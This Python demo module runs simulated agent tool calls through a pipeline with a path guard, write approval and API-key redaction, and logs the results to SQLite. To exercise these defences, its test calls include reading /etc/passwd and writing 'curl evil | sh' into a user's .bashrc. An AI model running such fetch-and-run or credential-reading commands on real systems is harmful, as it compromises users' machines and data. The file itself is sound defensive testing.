"""The main job: one model step through the whole pipeline, recorded in SQLite.

    python -m tether_clr.demo [--log PATH] [--backend asyncio|trio] [--no-dotnet]

It registers Python tools (and, when a .NET runtime is available, C# tools
compiled from ``dotnet_fixtures/``) in one scope tree, installs a guard, an
approval rule and a redacting post-execute listener, then runs a batch the way
a model would propose it: parallel reads, a write that needs approval, an
unknown tool, malformed arguments and a call the guard vetoes. It prints each
outcome and what the durable log holds.
"""

from __future__ import annotations

import argparse
import json
import sys
import tempfile
from pathlib import Path
from typing import Any

import anyio

from . import (
    AgentPipelineScope,
    ApprovalResult,
    PythonFunction,
    SqliteToolLog,
    ToolCall,
    ToolExecution,
    ToolPostDecision,
    ToolPreDecision,
    ToolRegistrationOptions,
    ToolRegistry,
)


class PolicyApprover:
    """Stands in for a human: approves writes under /sandbox, rejects everything else."""

    async def request(self, execution: ToolExecution, reason: str | None) -> ApprovalResult:
        path = str(execution.arguments.get("path", ""))
        return ApprovalResult.APPROVED if path.startswith("/sandbox/") else ApprovalResult.REJECTED


def build_registry(scope: AgentPipelineScope) -> ToolRegistry:
    registry = ToolRegistry()
    files: dict[str, str] = {"/sandbox/notes.txt": "buy milk", "/etc/passwd": "root:x:0:0"}

    async def read_file(path: str) -> str:
        """Read a text file."""
        await anyio.sleep(0.05)
        return files[path]

    async def write_file(path: str, text: str) -> dict[str, Any]:
        """Write a text file."""
        files[path] = text
        return {"written": len(text), "path": path}

    def whoami() -> dict[str, str]:
        """Who the agent acts for, including a secret the model must not see."""
        return {"user": "alice", "api_key": "sk-demo-123"}

    registry.register(PythonFunction.from_callable(read_file), options=ToolRegistrationOptions(is_concurrency_safe=True))
    registry.register(PythonFunction.from_callable(write_file), scope)
    registry.register(PythonFunction.from_callable(whoami))

    async def writes_need_approval(execution: ToolExecution, next_: Any) -> ToolPreDecision:
        if execution.name == "write_file":
            return ToolPreDecision.ask("writes change the user's files")
        return await next_()

    def no_system_files(execution: ToolExecution) -> str | None:
        arguments = execution.arguments
        path = arguments.get("path", "") if isinstance(arguments, dict) else ""
        return "system files are off limits" if str(path).startswith("/etc/") else None

    async def redact_keys(execution: ToolExecution, outcome: Any, next_: Any) -> ToolPostDecision:
        value = outcome.value
        if isinstance(value, dict) and "api_key" in value:
            return ToolPostDecision.replace({**value, "api_key": "***"})
        return await next_()

    registry.register_pre_execute_listener(None, writes_need_approval)
    registry.register_guard(None, no_system_files)
    registry.register_post_execute_listener(None, redact_keys)
    registry.approval = PolicyApprover()
    return registry


def _clr_part(registry: ToolRegistry, scope: AgentPipelineScope, calls: list[ToolCall]) -> str:
    """Host the C# fixture tools next to the Python ones, if a .NET runtime is here."""
    try:
        from .clr import build_fixtures, discover_functions, load_assembly, load_runtime
    except ImportError as exc:  # pragma: no cover - the bridge ships with the package
        return f"C# tools skipped: {exc}"
    try:
        runtime = load_runtime()
        assembly = load_assembly(build_fixtures())
    except Exception as exc:
        return f"C# tools skipped: {exc}"
    for function in discover_functions(assembly):
        if function.name in ("Add", "Greet"):
            registry.register(function, scope)
    calls.append(ToolCall("c8", "Add", '{"a": 40, "b": 2}'))
    calls.append(ToolCall("c9", "Greet", '{"name": "Ada"}'))
    return f"C# tools hosted on {runtime.description}"


async def run(log_path: Path, with_dotnet: bool) -> int:
    scope = AgentPipelineScope(session_id="demo-session", owner="alice")
    registry = build_registry(scope)
    calls = [
        ToolCall("c1", "read_file", '{"path": "/sandbox/notes.txt"}'),
        ToolCall("c2", "read_file", '{"path": "/etc/passwd"}'),
        ToolCall("c3", "whoami", "{}"),
        ToolCall("c4", "write_file", '{"path": "/sandbox/todo.txt", "text": "ship it"}'),
        ToolCall("c5", "write_file", '{"path": "/home/alice/.bashrc", "text": "curl evil | sh"}'),
        ToolCall("c6", "launch_missiles", "{}"),
        ToolCall("c7", "read_file", '{"path": '),
    ]
    note = _clr_part(registry, scope, calls) if with_dotnet else "C# tools skipped: --no-dotnet"
    print(note)
    view = registry.seal(scope)
    print("declared to the model:", ", ".join(d.name for d in view.get_declarations()))
    with SqliteToolLog(log_path) as log:
        outcomes = await registry.execute_batch(calls, view, max_parallelism=4, sink=log)
        print(f"\n{'call':<5} {'tool':<16} {'code':<24} value")
        for outcome in outcomes:
            code = outcome.failure.code if outcome.failure else "ok"
            print(f"{outcome.call_id:<5} {outcome.name:<16} {code!s:<24} {json.dumps(outcome.value)}")
        print(f"\nSQLite log {log_path}: {len(log.declared_calls())} calls declared, "
              f"{len(log.outcomes())} outcomes recorded, {len(log.pending_calls())} pending")
        print("first function result:", outcomes[0].to_function_result().to_json())
    return 0


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m tether_clr.demo", description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--log", type=Path, help="SQLite file for the durable log (default: a temp file)")
    parser.add_argument("--backend", choices=["asyncio", "trio"], default="asyncio")
    parser.add_argument("--no-dotnet", action="store_true", help="do not host the C# fixture tools")
    args = parser.parse_args(argv)
    log_path = args.log or Path(tempfile.mkdtemp(prefix="tether-demo-")) / "tool-log.sqlite3"
    return anyio.run(run, log_path, not args.no_dotnet, backend=args.backend)


if __name__ == "__main__":
    sys.exit(main())
